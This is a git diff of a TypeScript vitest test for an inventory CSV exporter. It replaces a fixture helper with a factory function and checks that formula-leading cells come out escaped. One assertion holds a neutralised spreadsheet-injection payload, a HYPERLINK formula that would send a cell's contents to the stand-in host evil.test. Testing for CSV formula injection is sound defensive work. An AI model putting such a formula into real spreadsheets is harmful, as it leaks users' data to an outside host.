@@ -1,6 +1,7 @@
 import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { goodRow, uploadFile } from '../../../../test/fixtures/inventory-fixtures.ts';
+import { buildSite } from '../../../../test/factories.ts';
+import { uploadFile } from '../../../../test/fixtures/inventory-fixtures.ts';
 import { createTestContext, DEMO, type TestContext } from '../../../../test/index.ts';
 import { inventoryCsv } from '../import/inventory-files.ts';
 
@@ -82,7 +83,7 @@ describe('inventory CSV and formulas', () => {
       zone: "'=1+2",
       format: "'12x4",
     };
-    const csv = inventoryCsv([goodRow('CSV-FORMULA-1', typed)]);
+    const csv = inventoryCsv([buildSite('CSV-FORMULA-1', typed)]);
     expect(formulaCells(csv)).toEqual([]);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?d=""&B2,""Open"")"`);
     expect(csv).toContain(`"'@EX-1","'+56 13101"`);
